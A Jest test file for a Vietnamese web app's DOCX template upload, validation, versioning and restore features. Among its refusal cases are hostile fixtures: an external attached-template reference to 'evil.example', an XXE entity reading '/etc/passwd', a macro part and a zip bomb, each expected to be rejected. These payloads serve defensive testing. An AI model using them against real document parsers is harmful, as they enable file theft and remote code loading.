/** Templates at their door: checked before anything is kept, used from then on, taken back again. */
import { afterAll, afterEach, beforeAll, expect, test } from "@jest/globals";
import { Archive } from "../../document/read/archive.js";
import { baseTemplate } from "../../document/write/docx/base-template.js";
import { zipped } from "../../document/write/docx/zip.js";
import { wantedTask } from "../world.js";
import { DUE, ISSUED, NOW } from "./requests.js";
import { type Site, jsonOf, multipart, openSite, pdf, problemIn } from "./site.js";

let site: Site;
let programmeId: string;
beforeAll(async () => {
  site = await openSite({ now: NOW });
  ({ programmeId } = await site.world.issue(ISSUED, [wantedTask({ dueOn: DUE })]));
});
afterEach(async () => {
  expect(site.takeFailures()).toEqual([]);
  expect(await site.incoming()).toEqual([]);
});
afterAll(() => site.close());

const PLACE = "/templates/assignment_letter/party";

/** The base template with its main part changed, as Word would save it. */
function edited(
  change: (xml: string) => string,
  added: readonly { name: string; text: string }[] = [],
): Buffer {
  const archive = new Archive(baseTemplate("assignment_letter", "party"));
  const members = archive.names().map((name) => {
    const text = archive.text(name) ?? "";
    return { name, text: name === "word/document.xml" ? change(text) : text };
  });
  return zipped([...members, ...added]);
}
const form = (bytes: Uint8Array, name = "Mẫu công văn.docx") =>
  multipart({}, [{ field: "template", name, bytes }]);
const upload = (bytes: Uint8Array, version = "*") =>
  site.ask("office", "POST", PLACE, form(bytes), { "If-Match": version });
const rows = () => site.world.db.prisma.template.findMany({ orderBy: { number: "asc" } });

async function letterText(): Promise<string> {
  const answer = await site.ask(
    "office",
    "GET",
    `/programmes/${programmeId}/units/${site.world.unitId("longmy")}/assignment-letter`,
  );
  const xml = new Archive(new Uint8Array(await answer.arrayBuffer())).text("word/document.xml") ?? "";
  return xml.replace(/<[^>]+>/g, "");
}

const field = (xml: string, from: string, to: string) => xml.replace(from, to);

test.each([
  ["a field that is none", edited((xml) => field(xml, "{don_vi}", "{don_vii}")), "unknown_field", "don_vi"],
  ["a loop that is not closed", edited((xml) => field(xml, "{/nhiem_vu}", "")), "unclosed_loop", "nhiem_vu"],
  ["a loop that was not opened", edited((xml) => field(xml, "{#nhiem_vu}", "")), "unopened_loop", "nhiem_vu"],
  ["a lone brace", edited((xml) => field(xml, "{don_vi}", "{don_vi")), "broken_field", "{"],
  ["a macro", edited((xml) => xml, [{ name: "word/vbaProject.bin", text: "x" }]), "macro", "vbaProject"],
  [
    "a reference to something outside",
    edited(
      (xml) => xml,
      [
        {
          name: "word/_rels/settings.xml.rels",
          text: `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
        },
      ],
    ),
    "remote",
    "evil.example",
  ],
  [
    "an external entity",
    edited((xml) => xml.replace("?>", `?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`)),
    "unusable",
    "",
  ],
  ["something that is no archive", Buffer.from("PK\x03\x04 not really"), "unusable", ""],
  ["a PDF", pdf, "unusable", ""],
  ["a bomb", zipped([{ name: "word/document.xml", text: " ".repeat(60_000_000) }]), "unusable", ""],
])("%s is refused with what is wrong, and nothing is kept", async (_, bytes, code, what) => {
  const before = await rows();
  const problem = await problemIn(await upload(bytes));
  expect(problem).toMatchObject({ status: 422, code: "invalid_input", field: "template" });
  const flaws = problem["flaws"] as { code: string; what: string; message: { vi: string } }[];
  expect(flaws.map((flaw) => flaw.code)).toContain(code);
  expect(flaws.map((flaw) => flaw.message.vi).join("\n")).toContain(what);
  expect(await rows()).toEqual(before);
});

test("an empty form and a file too large are refused", async () => {
  expect(await problemIn(await upload(Buffer.alloc(0)))).toMatchObject({ status: 422, field: "template" });
  expect((await upload(Buffer.alloc(5_000_001, 1))).status).toBe(413);
  expect(
    (await site.ask("office", "POST", "/templates/minutes/party", form(edited((xml) => xml)))).status,
  ).toBe(422);
});

test("who may not set one is refused before anything is taken in", async () => {
  const bytes = edited((xml) => xml);
  for (const name of ["longmy", "advising", "committee"] as const) {
    expect((await site.ask(name, "POST", PLACE, form(bytes))).status).toBe(403);
    expect((await site.ask(name, "GET", `${PLACE}/versions/0`)).status).toBe(403);
  }
});

test("an edited one is in force at once; an earlier one and the base template can be had back; all stay", async () => {
  const slot = async () => {
    const answer = await jsonOf<{
      templates: {
        kind: string;
        form: string;
        version: number;
        versions: { number: number; restoredNumber: number | null; file: { name: string } | null }[];
      }[];
    }>(await site.ask("administrator", "GET", "/templates"));
    return answer.templates.find((one) => one.kind === "assignment_letter" && one.form === "party");
  };
  expect(await slot()).toMatchObject({ version: 0, versions: [] });
  const first = edited((xml) => field(xml, "nghiêm túc triển khai", "CÂU RIÊNG MỘT, {don_vi} triển khai"));
  const second = edited((xml) => field(xml, "nghiêm túc triển khai", "CÂU RIÊNG HAI"));
  const set = await upload(first, '"0"');
  expect([set.status, set.headers.get("ETag")]).toEqual([201, '"1"']);
  expect(await letterText()).toContain("CÂU RIÊNG MỘT, Huyện ủy Long Mỹ triển khai");
  // Somebody else was first.
  expect((await upload(second, '"0"')).status).toBe(412);
  expect((await upload(second, '"1"')).status).toBe(201);
  expect(await letterText()).toContain("CÂU RIÊNG HAI");

  const restore = (number: number, version: string) =>
    site.ask("administrator", "POST", `${PLACE}/restoration`, { number }, { "If-Match": version });
  expect((await restore(9, '"2"')).status).toBe(404);
  expect((await restore(1, '"2"')).status).toBe(200);
  expect(await letterText()).toContain("CÂU RIÊNG MỘT");
  expect((await restore(0, '"3"')).status).toBe(200);
  expect(await letterText()).toContain("nghiêm túc triển khai");
  const versions = (await slot())?.versions.map(({ number, restoredNumber, file }) => [
    number,
    restoredNumber,
    file?.name ?? null,
  ]);
  expect(versions).toEqual([
    [4, null, null],
    [3, 1, "Mẫu công văn.docx"],
    [2, null, "Mẫu công văn.docx"],
    [1, null, "Mẫu công văn.docx"],
  ]);
  const earlier = await site.ask("office", "GET", `${PLACE}/versions/1`);
  expect(Buffer.from(await earlier.arrayBuffer())).toEqual(first);
  const base = await site.ask("office", "GET", `${PLACE}/versions/0`);
  expect(Buffer.from(await base.arrayBuffer())).toEqual(baseTemplate("assignment_letter", "party"));
  expect((await site.ask("office", "GET", `${PLACE}/versions/4`)).status).toBe(404);
  const events = await site.world.db.prisma.journalEvent.findMany({
    where: { taskId: null, kind: { startsWith: "template_" } },
    orderBy: { number: "asc" },
  });
  expect(events.map(({ kind }) => kind)).toEqual([
    "template_uploaded",
    "template_uploaded",
    "template_restored",
    "template_restored",
  ]);
});

test("the page says every flaw beside the form, and what was done", async () => {
  const visitor = await site.signedIn("office");
  const html = await (await visitor.get("/templates")).text();
  expect(html).toContain("Mẫu gốc");
  const fields = (bytes: Uint8Array, version: string) =>
    multipart({ version }, [{ field: "template", name: "mau.docx", bytes }]);
  const bad = edited((xml) => field(field(xml, "{don_vi}", "{don_vii}"), "{van_ban}", "{van_bann}"));
  const refused = await visitor.upload("/templates/bulletin/state", fields(bad, "0"));
  expect(refused.status).toBe(422);
  const said = await refused.text();
  expect(said).toContain("{don_vii}");
  expect(said).toContain("có phải là {van_ban}?");
  const good = await visitor.upload(
    "/templates/bulletin/state",
    fields(baseTemplate("bulletin", "state"), "0"),
  );
  expect([good.status, good.headers.get("Location")]).toEqual([303, "/templates"]);
  expect(await (await visitor.get("/templates")).text()).toContain("Đã kiểm tra và dùng mẫu mới.");
  const back = await visitor.submit("/templates/bulletin/state/restoration", { number: "0", version: "1" });
  expect(back.status).toBe(303);
  expect((await visitor.submit("/templates/bulletin/state/restoration", { number: "x" })).status).toBe(422);
  expect((await visitor.submit("/templates/bulletin/army/restoration", { number: "0" })).status).toBe(404);
});
